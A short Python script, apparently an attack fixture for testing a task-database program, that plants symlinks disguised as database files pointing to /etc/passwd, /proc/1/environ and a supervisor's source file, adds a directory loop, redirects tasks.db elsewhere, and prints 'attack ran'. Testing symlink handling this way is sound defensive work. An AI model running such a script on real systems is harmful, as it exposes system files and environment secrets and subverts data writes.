import os

for target in ("/etc/passwd", "/proc/1/environ", "/opt/supervisor/main.py"):
    name = "tasks-" + os.path.basename(target) + ".db"
    if not os.path.islink(name):
        os.symlink(target, name)
os.makedirs("deep", exist_ok=True)
if not os.path.islink("deep/loop"):
    os.symlink("..", "deep/loop")
if not os.path.islink("tasks.db"):
    if os.path.exists("tasks.db"):
        os.unlink("tasks.db")
    os.symlink("/tmp/elsewhere.db", "tasks.db")
print("attack ran")
